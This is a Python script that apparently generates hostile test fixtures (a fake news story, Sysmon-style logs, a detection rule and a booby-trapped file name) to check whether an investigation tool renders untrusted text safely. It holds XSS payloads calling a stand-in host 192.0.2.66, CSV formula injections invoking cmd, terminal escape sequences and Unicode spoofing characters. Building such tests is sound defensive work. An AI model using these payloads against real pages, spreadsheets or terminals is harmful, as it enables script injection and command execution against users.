"""Writes a story, logs and rules in which whatever can hold text holds an attack on its reader.

Usage: make_hostile.py FOLDER   (then: daylight investigate FOLDER/story.* --evidence FOLDER/evidence --rules FOLDER/rules)

Each attack would change the page's title or ask for an address of a documentation network, so that
whoever shows the dossier can tell whether anything ran.
"""

import html
import json
import sys
from pathlib import Path

RUNS = "document.title='owned';fetch('http://192.0.2.66/owned')"
MARKUP = [
    f"<script>{RUNS}</script>",
    f"</title></style></script><script>{RUNS}</script>",
    f"<img src=x onerror={RUNS.replace(' ', '')}>",
    f"\"'><svg onload=\"{RUNS}\"><a href=\"javascript:{RUNS}\">open</a>",
    "<iframe srcdoc='&lt;script&gt;parent.document.title=1&lt;/script&gt;'></iframe><base href=//192.0.2.66/>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.66/'><link rel=stylesheet href=http://192.0.2.66/a.css>",
    "<!-- --!> ]]> <![CDATA[ &lt;b&gt; &#60;script&#62; &#x202e; &amp;amp; &nosuch; <style>*{display:none}</style>",
    "![picture](http://192.0.2.66/p.png) [link](javascript:alert(1)) `code` | cell | <http://192.0.2.66>",
]
MARKS = "safe\u202egpj.exe \u2066isolate\u2069 \u200bzero \u200f \ufeff \U000e0041"
ESCAPES = "\x1b]0;owned\x07 \x1b[2J\x1b[31mred \x9b31m \x08\x08\x00 \r forged line"
FORMULAS = ["=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\uff1d1+1"]
ALL = " ".join([*MARKUP, MARKS, ESCAPES])
LONG = "A" * 1_000_000


def event(number: int, **fields: object) -> dict:
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon",
        "EventID": 1, "RecordNumber": number, "@timestamp": f"2021-03-03T04:00:{number:02}Z", **fields,
    }


def logs() -> list[dict]:
    attacks = [*MARKUP, MARKS, ESCAPES, *FORMULAS, ALL]
    rows = [event(number, Hostname=text, User=f"CORP\\{text}", Image=f"C:\\{text}\\w3wp.exe", CommandLine=text,
                  ParentImage=text, **{text[:60]: text})
            for number, text in enumerate(attacks, 1)]
    rows.append(event(40, Hostname=LONG, User=LONG, Image=LONG, CommandLine=f"{LONG} {ALL}"))
    rows.append({"Channel": "Security", "SourceName": "Microsoft-Windows-Eventlog", "EventID": 1102, "RecordNumber": 41,
                 "Hostname": ALL, "SubjectUserName": ALL, "@timestamp": "2021-03-03T05:00:00Z", "Message": ALL})
    return rows


RULE = {
    "title": ALL[:250], "id": "7b1c8f0e-5a3d-4b7e-9b60-000000000001", "status": "test", "level": "high",
    "description": ALL, "falsepositives": [*MARKUP, MARKS], "author": ALL, "references": MARKUP,
    "tags": ["attack.t1059.003", "attack.execution"],
    "logsource": {"product": "windows", "category": "process_creation"},
    "detection": {"selection": {"CommandLine|contains": ["owned", "safe", "cmd", "+", "=", "@", "A"]}, "condition": "selection"},
}


def story() -> list[str]:
    said = [
        f"The Ministry of {text} said that the group {text} attacked the bank {text} with T1059.003 in March 2021."
        for text in MARKUP
    ]
    return [
        f"Ministry blames {ALL[:200]} for attacks",
        "By the Norland Courier. Published: Tue, 20 Jul 2021 08:15:00 +0100",
        *said,
        f"The Norland Foreign Ministry said that “{MARKS} {ESCAPES}” was used against Microsoft Exchange servers.",
        f"Norland denied that {FORMULAS[0]} attacked anybody.",
        f"The attackers used {LONG} and T1059.003.",
    ]


def main(folder: Path) -> None:
    evidence, rules = folder / "evidence", folder / "rules"
    evidence.mkdir(parents=True)
    rules.mkdir()
    paragraphs = story()
    (folder / "story.txt").write_text("\n\n".join(paragraphs), encoding="utf-8", newline="")
    title, *rest = [html.escape(text) for text in paragraphs]
    body = "".join(f"<p>{text}</p>" for text in rest)
    page = f"<!DOCTYPE html><title>{title}</title><article><h1>{title}</h1>{body}</article>"
    (folder / "story.html").write_text(page, encoding="utf-8", newline="")
    text = "\n".join(json.dumps(row) for row in logs())
    name = "x\" onload=1 <img src=x onerror=alert(1)> \u202egpj\x1b[31m.jsonl"
    (evidence / name).write_text(text + "\n", encoding="utf-8")
    rule = json.dumps(RULE, ensure_ascii=False).replace("\x9b", "\\u009b").replace("\ufeff", "\\ufeff")
    (rules / "hostile.yml").write_text(rule, encoding="utf-8")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
